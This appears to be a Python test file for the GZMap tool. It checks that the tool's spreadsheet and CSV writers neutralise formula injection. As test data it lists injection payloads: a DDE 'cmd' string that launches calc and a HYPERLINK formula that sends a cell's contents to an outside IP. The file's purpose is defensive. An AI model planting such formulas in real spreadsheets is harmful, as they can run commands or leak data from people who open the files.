"""Tables GZMap writes never carry a live formula from someone else's cell (CSV/formula injection)."""

from __future__ import annotations

import zipfile

import pandas as pd
from openpyxl import load_workbook

from gzmap.cli import main
from gzmap.io.table_writer import write_table
from gzmap.io.table_writer import write_tables

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://198.51.100.7/?"&A1,"点我")',
    "+1+2",
    "@SUM(A1)",
    "-2+3",
    "\t=1",
    "普通文字",
    "-12.5",
    "+86",
    None,
]


def test_xlsx_keeps_every_text_cell_as_text(tmp_path):
    df = pd.DataFrame({"备注": HOSTILE, "n": range(len(HOSTILE))})
    path = tmp_path / "t.xlsx"
    write_tables({"表:一/[二]": df, "表:一/[二] ": df}, path)
    book = load_workbook(path)
    assert book.sheetnames == ["表_一__二_", "表_一__二_ (2)"]
    ws = book.worksheets[0]
    values = [ws.cell(row=r + 2, column=1).value for r in range(len(HOSTILE))]
    assert values == HOSTILE
    assert all(ws.cell(row=r + 2, column=1).data_type != "f" for r in range(len(HOSTILE)))
    with zipfile.ZipFile(path) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()


def test_csv_prefixes_formula_like_text_and_leaves_numbers(tmp_path):
    df = pd.DataFrame({"备注": HOSTILE, "n": range(len(HOSTILE))})
    path = tmp_path / "t.csv"
    write_table(df, path)
    back = pd.read_csv(path, encoding="utf-8-sig", keep_default_na=False)["备注"].tolist()
    assert back[:6] == ["'" + v for v in HOSTILE[:6]]
    assert back[6:] == ["普通文字", "-12.5", "+86", ""]
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the Chinese


def test_convert_output_has_no_live_formula(tmp_path, capsys):
    src = tmp_path / "企业.csv"
    src.write_text("企业名称,经度,纬度\n\"=cmd|' /C calc'!A0\",113.32,23.12\n乙公司,113.33,23.13\n", encoding="utf-8")
    out = tmp_path / "out.xlsx"
    assert main(["convert", str(src), str(out), "--from", "gcj02", "--to", "wgs84"]) == 0, capsys.readouterr().err
    ws = load_workbook(out).active
    assert ws["A2"].value == "=cmd|' /C calc'!A0" and ws["A2"].data_type == "s"
    out_csv = tmp_path / "out.csv"
    assert main(["convert", str(src), str(out_csv), "--from", "gcj02", "--to", "wgs84"]) == 0
    assert "'=cmd|" in out_csv.read_text(encoding="utf-8-sig")
